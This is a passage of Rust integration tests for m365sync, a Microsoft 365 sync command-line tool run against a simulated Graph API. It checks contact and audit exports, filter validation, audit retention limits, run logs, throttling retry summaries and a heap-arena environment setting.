    assert_eq!(synced.status.code(), Some(0), "{:?}", text(&synced));
    let exported = m365sync(&db, &["export", "contacts"], &[]);
    let contacts: Value = serde_json::from_slice(&exported.stdout).unwrap();
    let contact = contacts
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"].as_i64().unwrap().to_string() == id)
        .unwrap();
    assert_eq!(contact["job_title"], "By hand");
    assert_eq!(contact["custom_fields"]["Desk"], "4.12");
    let managed = contact["managed_by_microsoft_365"].as_array().unwrap();
    assert!(managed.contains(&Value::from("displayName")));
    assert!(managed.contains(&Value::from("Cost centre")));
    assert!(!managed.contains(&Value::from("jobTitle")));

    let csv = m365sync(&db, &["export", "contacts", "--format", "csv"], &[]);
    let mut reader = csv::Reader::from_reader(csv.stdout.as_slice());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (custom, owned) = (column("custom_fields"), column("managed_by_microsoft_365"));
    let row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| r[0] == id)
        .unwrap();
    assert!(
        row[custom].contains("\"Desk\":\"4.12\""),
        "{}",
        &row[custom]
    );
    assert!(row[owned].starts_with("displayName;"), "{}", &row[owned]);
    assert!(!row[owned].contains("jobTitle"));

    let reset = m365sync(&db, &["connection", "mapping", "contoso", "--reset"], &[]);
    assert!(reset.status.success());
    let refused = m365sync(&db, &["contact", "set", &id, "jobTitle", "Again"], &[]);
    assert_eq!(refused.status.code(), Some(1));
}

/// Filters name things of the tenant: a domain, licence or group it does not have is refused
/// when it is typed, with what there is, instead of leaving everyone out at the next sync.
#[tokio::test(flavor = "multi_thread")]
async fn filters_that_name_nothing_in_the_tenant_are_refused() {
    let sim = sim(10).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let tenant = sim.tenants()[0].clone();
    assert!(
        add(&db, &sim, "contoso", &tenant.client_secret)
            .status
            .success()
    );
    assert!(m365sync(&db, &["sync", "contoso"], &[]).status.success());
    for (args, says) in [
        (
            &["--include-domain", "contso.example"][..],
            "has no domain 'contso.example'",
        ),
        (&["--exclude-domain", "fabrikam.example"], "has no domain"),
        (&["--sku", "NO_SUCH_SKU"], "has no licence 'NO_SUCH_SKU'"),
        (&["--group", "All Staff"], "does not sync groups"),
    ] {
        let mut full = vec!["connection", "filter", "contoso"];
        full.extend_from_slice(args);
        let refused = m365sync(&db, &full, &[]);
        let (_, stderr) = text(&refused);
        assert_eq!(refused.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(says), "{args:?}: {stderr}");
    }
    let shown = m365sync(&db, &["connection", "filter", "contoso"], &[]);
    assert!(
        text(&shown).0.contains("keeps every user"),
        "{:?}",
        text(&shown)
    );
    let saved = m365sync(
        &db,
        &[
            "connection",
            "filter",
            "contoso",
            "--include-domain",
            &tenant.domain,
            "--enabled-only",
        ],
        &[],
    );
    assert!(saved.status.success(), "{:?}", text(&saved));
    assert!(text(&saved).0.contains(&tenant.domain));
}

/// The audit trail on the command line, on either store: a connection's retention shown, set
/// and refused when it is no number of days; `export audit` as JSON and CSV, by time and user.
async fn audit_retention_and_export(kind: testkit::StoreKind) {
    let sim = sim(20).await;
    let dir = tempfile::tempdir().unwrap();
    let (_store, home) = testkit::store_of(kind).await;
    let db = match &home {
        testkit::StoreHome::Postgres(database) => std::path::PathBuf::from(&database.url),
        testkit::StoreHome::Sqlite(_) => dir.path().join("store.db"),
    };
    let secret = sim.tenants()[0].client_secret.clone();
    let added = add_with(
        &db,
        &sim,
        "contoso",
        &secret,
        &["--datasets", "organization,audit"],
    );
    assert!(added.status.success(), "{:?}", text(&added));

    let shown = m365sync(&db, &["connection", "audit-retention", "contoso"], &[]);
    assert!(shown.status.success(), "{:?}", text(&shown));
    assert!(
        text(&shown).0.contains("for 180 days"),
        "{:?}",
        text(&shown)
    );
    for bad in ["0", "3651", "ninety", "-1", "1.5"] {
        let refused = m365sync(
            &db,
            &["connection", "audit-retention", "contoso", "--", bad],
            &[],
        );
        assert_eq!(
            refused.status.code(),
            Some(2),
            "{bad}: {:?}",
            text(&refused)
        );
        let (_, error) = text(&refused);
        assert!(
            error.contains("audit retention") && error.contains("from 1 to 3650"),
            "{bad}: {error}"
        );
    }
    let set = m365sync(
        &db,
        &["connection", "audit-retention", "contoso", "30"],
        &[],
    );
    assert!(set.status.success(), "{:?}", text(&set));
    assert!(text(&set).0.contains("30 days"), "{:?}", text(&set));
    let shown = m365sync(&db, &["connection", "audit-retention", "contoso"], &[]);
    assert!(text(&shown).0.contains("for 30 days"), "{:?}", text(&shown));
    let listed = m365sync(&db, &["connection", "list", "--json"], &[]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(listed[0]["audit_retention_days"], 30, "{listed}");
    let nobody = m365sync(&db, &["connection", "audit-retention", "nobody", "30"], &[]);
    assert_eq!(nobody.status.code(), Some(1), "{:?}", text(&nobody));
    assert!(text(&nobody).1.contains("nobody"), "{:?}", text(&nobody));

    let synced = m365sync(&db, &["sync", "contoso"], &[]);
    assert!(synced.status.success(), "{:?}", text(&synced));
    let exported = m365sync(&db, &["export", "audit"], &[]);
    assert!(exported.status.success(), "{:?}", text(&exported));
    let records: Vec<Value> = serde_json::from_slice(&exported.stdout).unwrap();
    assert!(records.len() > 1_900, "{}", records.len());
    let first = &records[0];
    assert_eq!(first["organization"], "Contoso Ltd");
    assert_eq!(first["tenant_id"], sim.tenants()[0].tenant_id.as_str());
    for field in [
        "id",
        "creation_time",
        "operation",
        "workload",
        "user_id",
        "client_ip",
        "result_status",
        "object_id",
        "content_type",
    ] {
        assert!(first[field].is_string(), "{field}: {first}");
    }
    assert!(
        first["record_type"].is_i64() && first["user_type"].is_i64(),
        "{first}"
    );
    assert_eq!(
        first["record"]["Id"].as_str().unwrap().to_lowercase(),
        first["id"].as_str().unwrap()
    );
    let times: Vec<&str> = records
        .iter()
        .map(|r| r["creation_time"].as_str().unwrap())
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "oldest first");

    // One person's records of the last two days, found by either case of their name.
    let user = first["user_id"].as_str().unwrap().to_string();
    let since = times[times.len() / 2].to_string();
    let filtered = m365sync(
        &db,
        &[
            "export",
            "audit",
            "--user",
            &user.to_uppercase(),
            "--since",
            &since,
            "--connection",
            "contoso",
        ],
        &[],
    );
    assert!(filtered.status.success(), "{:?}", text(&filtered));
    let theirs: Vec<Value> = serde_json::from_slice(&filtered.stdout).unwrap();
    let expected = records
        .iter()
        .filter(|r| {
            r["user_id"] == user.as_str() && r["creation_time"].as_str().unwrap() >= since.as_str()
        })
        .count();
    assert_eq!(theirs.len(), expected);
    assert!(!theirs.is_empty() && theirs.len() < records.len() / 2);

    let csv = m365sync(&db, &["export", "audit", "--format", "csv"], &[]);
    assert!(csv.status.success(), "{:?}", text(&csv));
    let mut reader = csv::Reader::from_reader(csv.stdout.as_slice());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        header,
        [
            "organization",
            "tenant_id",
            "id",
            "creation_time",
            "operation",
            "workload",
            "record_type",
            "user_id",
            "user_type",
            "client_ip",
            "result_status",
            "object_id",
            "content_type",
            "record"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), records.len());
    assert_eq!(&rows[0][2], first["id"].as_str().unwrap());
    assert_eq!(&rows[0][6], first["record_type"].to_string());
    let record: Value = serde_json::from_str(&rows[0][13]).unwrap();
    assert_eq!(record, first["record"]);

    for (args, says) in [
        (
            &["export", "contacts", "--since", "2026-01-01"][..],
            "export audit",
        ),
        (
            &["export", "audit", "--since", "yesterday"][..],
            "2026-11-01",
        ),
    ] {
        let refused = m365sync(&db, args, &[]);
        assert_eq!(
            refused.status.code(),
            Some(2),
            "{args:?}: {:?}",
            text(&refused)
        );
        assert!(text(&refused).1.contains(says), "{:?}", text(&refused));
    }
}

testkit::on_both_stores!(audit_retention_and_export);

/// `export usage` and `export sign-in-activity` give each table's own columns: CSV with a
/// header, JSON objects with the same fields, one per row.
#[tokio::test(flavor = "multi_thread")]
async fn usage_and_sign_in_activity_export_their_columns() {
    let sim = sim(12).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let added = add_with(
        &db,
        &sim,
        "contoso",
        &sim.tenants()[0].client_secret,
        &["--datasets", "organization,users,usage,sign_in_activity"],
    );
    assert!(added.status.success(), "{:?}", text(&added));
    let synced = m365sync(&db, &["sync", "contoso"], &[]);
    assert!(synced.status.success(), "{:?}", text(&synced));

    for (kind, columns) in [
        (
            "usage",
            &[
                "organization",
                "tenant_id",
                "key",
                "report",
                "user_principal_name",
                "is_deleted",
                "last_activity",
            ][..],
        ),
        (
            "sign-in-activity",
            &[
                "organization",
                "tenant_id",
                "key",
                "user_principal_name",
                "last_sign_in",
                "last_non_interactive_sign_in",
                "last_successful_sign_in",
                "archived",
            ][..],
        ),
    ] {
        let csv = m365sync(&db, &["export", kind, "--format", "csv"], &[]);
        assert!(csv.status.success(), "{kind}: {:?}", text(&csv));
        let mut reader = csv::Reader::from_reader(csv.stdout.as_slice());
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(
            &header[..columns.len().min(header.len())],
            columns,
            "{kind}"
        );
        assert_eq!(header.last().map(String::as_str), Some("archived"));
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert!(rows.len() > 1, "{kind}");

        let json = m365sync(&db, &["export", kind], &[]);
        assert!(json.status.success(), "{kind}: {:?}", text(&json));
        let items: Vec<serde_json::Map<String, Value>> =
            serde_json::from_slice(&json.stdout).unwrap();
        assert_eq!(items.len(), rows.len(), "{kind}");
        for (item, row) in items.iter().zip(&rows) {
            let mut fields: Vec<&String> = item.keys().collect();
            let mut names: Vec<&String> = header.iter().collect();
            fields.sort();
            names.sort();
            assert_eq!(fields, names, "{kind}");
            for (name, cell) in header.iter().zip(row.iter()) {
                let as_text = match &item[name] {
                    Value::Null => String::new(),
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                assert_eq!(as_text, cell, "{kind}: {name}");
            }
        }
    }

    let usage: Vec<Value> =
        serde_json::from_slice(&m365sync(&db, &["export", "usage"], &[]).stdout).unwrap();
    let email = usage.iter().find(|u| u["report"] == "email").unwrap();
    assert!(email["send_count"].is_number(), "{email}");
    assert!(
        email["windows"].is_null(),
        "another report's column is empty"
    );
    assert_eq!(
        email["key"],
        format!("email:{}", email["user_principal_name"].as_str().unwrap())
    );
    let apps = usage.iter().find(|u| u["report"] == "apps").unwrap();
    assert!(apps["windows"].is_boolean(), "{apps}");
    let sign_ins: Vec<Value> =
        serde_json::from_slice(&m365sync(&db, &["export", "sign-in-activity"], &[]).stdout)
            .unwrap();
    assert_eq!(sign_ins.len(), 12);
    assert!(
        sign_ins
            .iter()
            .all(|s| s["key"].as_str().unwrap().len() == 36)
    );
    assert!(sign_ins.iter().any(|s| s["last_sign_in"].is_string()));
}

/// The process log on either store: `runs` says when each run started and how long it took,
/// `run ID` shows each step and what it did to every record (unchanged ones only counted), in
/// text and JSON and by outcome; `connection list` says when the connection was last tested.
async fn the_process_log_shows_each_run_and_each_record_it_changed(kind: testkit::StoreKind) {
    let sim = sim(12).await;
    let dir = tempfile::tempdir().unwrap();
    let (_store, home) = testkit::store_of(kind).await;
    let db = match &home {
        testkit::StoreHome::Postgres(database) => std::path::PathBuf::from(&database.url),
        testkit::StoreHome::Sqlite(_) => dir.path().join("store.db"),
    };
    let added = add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
    assert!(added.status.success(), "{:?}", text(&added));

    let (listed, _) = text(&m365sync(&db, &["connection", "list"], &[]));
    assert!(listed.contains("never tested"), "{listed}");
    let tested = m365sync(&db, &["connection", "test", "contoso"], &[]);
    assert_eq!(tested.status.code(), Some(0), "{:?}", text(&tested));
    let (listed, _) = text(&m365sync(&db, &["connection", "list"], &[]));
    assert!(
        listed.contains("last tested ") && listed.contains("(passed)"),
        "{listed}"
    );
    let listed: Value =
        serde_json::from_slice(&m365sync(&db, &["connection", "list", "--json"], &[]).stdout)
            .unwrap();
    assert_eq!(listed[0]["last_test_passed"], true, "{listed}");
    assert!(listed[0]["last_tested_at"].as_i64().is_some(), "{listed}");

    let first = m365sync(&db, &["sync", "contoso", "--json"], &[]);
    assert_eq!(first.status.code(), Some(0), "{:?}", text(&first));
    let first: Value = serde_json::from_slice(&first.stdout).unwrap();
    let first_id = first["run_id"].as_i64().unwrap().to_string();
    let key = sim.tenants()[0].tenant_id.clone();
    let title = format!("Navigator of {kind:?}");
    assert!(sim.state.patch_user(
        &key,
        2,
        graph_sim::UserPatch {
            job_title: Some(title.clone()),
            ..graph_sim::UserPatch::default()
        },
    ));
    let upn = sim.state.tenant(&key).unwrap().user(2).unwrap().upn;
    let second = m365sync(&db, &["sync", "contoso", "--json"], &[]);
    let second: Value = serde_json::from_slice(&second.stdout).unwrap();
    let second_id = second["run_id"].as_i64().unwrap().to_string();

    let (runs, _) = text(&m365sync(&db, &["runs"], &[]));
    assert!(
        runs.starts_with("RUN") && runs.contains("STARTED") && runs.contains("TOOK"),
        "{runs}"
    );
    let row: Vec<&str> = runs
        .lines()
        .find(|l| l.split_whitespace().next() == Some(second_id.as_str()))
        .unwrap_or_else(|| panic!("{runs}"))
        .split_whitespace()
        .collect();
    // RUN CONNECTION KIND STATUS STARTED (date and time) TOOK (number and unit) …
    assert_eq!(row[1], "contoso", "{runs}");
    assert!(
        row[4].len() == 10 && row[5].len() == 8 && (row[7] == "ms" || row[7] == "s"),
        "{row:?}"
    );
    let runs: Value =
        serde_json::from_slice(&m365sync(&db, &["runs", "--json"], &[]).stdout).unwrap();
    for field in ["started_at", "finished_at", "duration_ms", "queued_at"] {
        assert!(runs[0].get(field).is_some(), "{field}: {runs}");
    }
    assert!(runs[0]["duration_ms"].as_i64().unwrap() >= 0, "{runs}");

    // The first run created every user, each listed.
    let (shown, err) = text(&m365sync(&db, &["run", &first_id], &[]));
    assert_eq!(
        shown
            .lines()
            .filter(|l| l.trim_start().starts_with("created "))
            .count(),
        12,
        "{shown}{err}"
    );
    // The second changed one title: listed with the old and new value, the rest counted.
    let (shown, _) = text(&m365sync(&db, &["run", &second_id], &[]));
    let updated = shown
        .lines()
        .find(|l| l.trim_start().starts_with("updated "))
        .unwrap_or_else(|| panic!("{shown}"));
    assert!(
        updated.to_lowercase().contains(&upn.to_lowercase())
            && updated.contains("jobTitle")
            && updated.contains(&format!("→ \"{title}\"")),
        "{updated}"
    );
    assert!(shown.contains("unchanged (counted, not listed)"), "{shown}");
    assert!(!shown.contains("created "), "{shown}");

    let only: Value = serde_json::from_slice(
        &m365sync(
            &db,
            &["run", &second_id, "--json", "--outcome", "updated"],
            &[],
        )
        .stdout,
    )
    .unwrap();
    let users = only["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["dataset"] == "users")
        .unwrap();
    let records = users["records"].as_array().unwrap();
    assert_eq!(records.len(), 1, "{only}");
    assert_eq!(records[0]["outcome"], "updated");
    assert_eq!(records[0]["detail"]["fields"][0]["field"], "jobTitle");
    assert_eq!(records[0]["detail"]["fields"][0]["new"], title.as_str());
    assert!(only["duration_ms"].as_i64().is_some(), "{only}");
    let none: Value = serde_json::from_slice(
        &m365sync(
            &db,
            &["run", &second_id, "--json", "--outcome", "created"],
            &[],
        )
        .stdout,
    )
    .unwrap();
    assert!(
        none["steps"]
            .as_array()
            .unwrap()
            .iter()
            .all(|s| s["records"].as_array().unwrap().is_empty()),
        "{none}"
    );

    let wrong = m365sync(&db, &["run", &second_id, "--outcome", "renamed"], &[]);
    assert_eq!(wrong.status.code(), Some(2), "{:?}", text(&wrong));
    let missing = m365sync(&db, &["run", "999"], &[]);
    assert_eq!(missing.status.code(), Some(1), "{:?}", text(&missing));
    assert!(
        text(&missing).1.contains("no run 999"),
        "{:?}",
        text(&missing)
    );
}

testkit::on_both_stores!(the_process_log_shows_each_run_and_each_record_it_changed);

/// Throttling costs waits, not lines: at the default verbosity no retry is told one by one, and
/// the run's report sums them up once, with the status codes that caused them.
#[tokio::test(flavor = "multi_thread")]
async fn retries_are_quiet_and_summed_up_once() {
    let sim = sim(30).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let tenant = &sim.tenants()[0];
    add(&db, &sim, "contoso", &tenant.client_secret);
    sim.state.inject(
        &tenant.tenant_id,
        graph_sim::Fault::ThrottleRate {
            every: 3,
            retry_after: Some("0".into()),
        },
    );
    let synced = m365sync(&db, &["sync", "contoso"], &[]);
    let (out, err) = text(&synced);
    assert!(synced.status.success(), "{out}\n{err}");
    assert!(
        sim.state.stats().throttled > 0,
        "the fault throttled nothing"
    );
    assert!(
        !err.contains("WARN") && !err.contains("retrying") && !err.contains("throttled"),
        "no retry is told one by one: {err}"
    );
    let summaries: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("warning [retried]"))
        .collect();
    assert_eq!(summaries.len(), 1, "{out}");
    assert!(summaries[0].contains("429 × "), "{out}");
    // The run keeps the summary: `run ID` shows it later.
    let run = m365sync(&db, &["run", "1"], &[]);
    assert!(
        text(&run).0.contains("warning [retried]"),
        "{:?}",
        text(&run)
    );
}

/// The environment of a running child, once it holds `wanted` (or after ten seconds).
#[cfg(all(target_os = "linux", target_env = "gnu"))]
fn environment_of(child: &std::process::Child, wanted: &str) -> Vec<String> {
    let path = format!("/proc/{}/environ", child.id());
    let mut seen = Vec::new();
    for _ in 0..200 {
        seen = std::fs::read(&path)
            .unwrap_or_default()
            .split(|b| *b == 0)
            .map(|v| String::from_utf8_lossy(v).into_owned())
            .collect();
        if seen.iter().any(|v| v == wanted) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    seen
}

/// glibc's heap arenas are bounded to two (a full sync's peak memory depends on it), unless
/// the environment already chose a number, which is kept.
#[cfg(all(target_os = "linux", target_env = "gnu"))]
#[test]
fn the_process_runs_with_two_heap_arenas_unless_told_otherwise() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    for (given, expected) in [
        (None, "MALLOC_ARENA_MAX=2"),
        (Some("8"), "MALLOC_ARENA_MAX=8"),
    ] {
        let mut command = Command::new(env!("CARGO_BIN_EXE_m365sync"));
        command
            .arg("--db")
            .arg(&db)
            .args([
                "connection",
                "add",
                "waiting",
                "--tenant-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-id",
                "0b7e1c2a-3d4e-4f50-8a6b-7c8d9e0f1a2b",
                "--client-secret-stdin",
            ])
            .env_remove("MALLOC_ARENA_MAX")
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        if let Some(arenas) = given {
            command.env("MALLOC_ARENA_MAX", arenas);
        }
        // It waits on standard input for the secret: long enough to be looked at.
        let mut child = command.spawn().unwrap();
        let environment = environment_of(&child, expected);
        child.kill().unwrap();
        child.wait().unwrap();
        assert!(
            environment.iter().any(|v| v == expected),
            "{expected} not among {:?}",
            environment
                .iter()
                .filter(|v| v.starts_with("MALLOC"))
                .collect::<Vec<_>>()
        );
    }
}
